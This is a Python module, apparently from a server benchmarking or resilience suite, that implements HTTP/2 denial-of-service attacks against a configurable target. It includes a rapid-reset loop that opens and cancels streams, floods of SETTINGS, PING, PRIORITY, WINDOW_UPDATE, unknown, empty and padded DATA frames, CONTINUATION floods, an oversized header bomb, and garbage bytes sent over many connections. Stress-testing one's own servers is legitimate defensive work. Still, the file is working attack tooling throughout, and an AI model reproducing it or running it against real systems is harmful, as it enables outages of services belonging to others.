"""Attacks of frames: HTTP/2 that costs its sender little (RFC 9113)."""

from __future__ import annotations

import contextlib
import random
import struct
from collections.abc import Callable

from bench.load import (
    DATA,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    RESET,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
)
from bench.servers import CHECK
from scripts.hostile.connection import CALLS, CANCEL, CONTINUATION, Raw, framed
from scripts.hostile.target import Stop, Target

#: Sections 6.1 and 6.3.
PADDED, PRIORITY = 8, 2


def rapid_reset(
    target: Target,
    stop: Stop,
    *,
    message: bool = False,
    tls: bool = False,
    polite: bool = True,
) -> None:
    """Begin calls and reset each at once."""
    body = framed(target.request)
    while not stop.is_set():
        raw = Raw(target.address, tls=tls, polite=polite)
        try:
            while not stop.is_set():
                for _ in range(100):
                    raw.headers(CHECK.path)
                    if message:
                        raw.data(body, end=True)
                    raw.cancel()
                raw.send()
                raw.hear()
        except OSError:
            stop.wait(0.01)
        finally:
            raw.close()


def flood(
    frames: Callable[[Raw], bytes], target: Target, stop: Stop, *, polite: bool = True
) -> None:
    """Send frames without end, and read little."""
    while not stop.is_set():
        raw = Raw(target.address, polite=polite)
        try:
            raw.send()
            payload = frames(raw)
            while not stop.is_set():
                raw.socket.sendall(payload)
                raw.hear()
        except OSError:
            stop.wait(0.01)
        finally:
            raw.close()


def settings(_raw: Raw) -> bytes:
    return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * 200


def pings(_raw: Raw) -> bytes:
    return frame(PING, 0, 0, b"12345678") * 200


def priorities(raw: Raw) -> bytes:
    raw.headers(CHECK.path)
    raw.send()
    return frame(PRIORITY, 0, raw.stream, bytes(5)) * 2_000


def windows(_raw: Raw) -> bytes:
    return frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 2_000


def unknown(_raw: Raw) -> bytes:
    return frame(0xFA, 0, 0, bytes(9)) * 2_000


def empty_data(raw: Raw) -> bytes:
    raw.headers(CHECK.path)
    raw.send()
    return frame(DATA, 0, raw.stream, b"") * 2_000


def padding(raw: Raw) -> bytes:
    raw.headers(CHECK.path)
    raw.send()
    return frame(DATA, PADDED, raw.stream, bytes([255]) + bytes(255)) * 200


def indexed(raw: Raw) -> bytes:
    """Headers of which each takes one byte: one of the static table (RFC 7541, section 6.1)."""
    raw.headers(CHECK.path, flags=0)
    raw.send()
    return frame(CONTINUATION, 0, raw.stream, b"\x91" * 16_000) * 8


def continuations(raw: Raw) -> bytes:
    raw.headers(CHECK.path, flags=0)
    raw.send()
    return frame(CONTINUATION, 0, raw.stream, b"\x00\x01a\x01b" * 800) * 20


def header_bomb(target: Target) -> None:
    """Send headers far past any sane size."""
    raw = Raw(target.address)
    try:
        for _ in range(CALLS):
            raw.stream += 2
            block = b"\x00\x01a\x7f\x81\x7c" + b"b" * 16_000  # a name and a value of 16,000 bytes
            raw.out += frame(HEADERS, END_STREAM, raw.stream, block)
            for _ in range(8):
                raw.out += frame(CONTINUATION, 0, raw.stream, block)
            raw.out += frame(RESET, 0, raw.stream, CANCEL)
        raw.send()
        raw.hear(0.05)
    finally:
        raw.close()


def garbage(target: Target) -> None:
    """Send what is no HTTP/2 over many connections."""
    held = [Raw(target.address) for _ in range(50)]
    for number, raw in enumerate(held):
        with contextlib.suppress(OSError):
            raw.socket.sendall(PREFACE[:-1] if number % 2 else random.Random(number).randbytes(999))
    for raw in held:
        raw.reset()
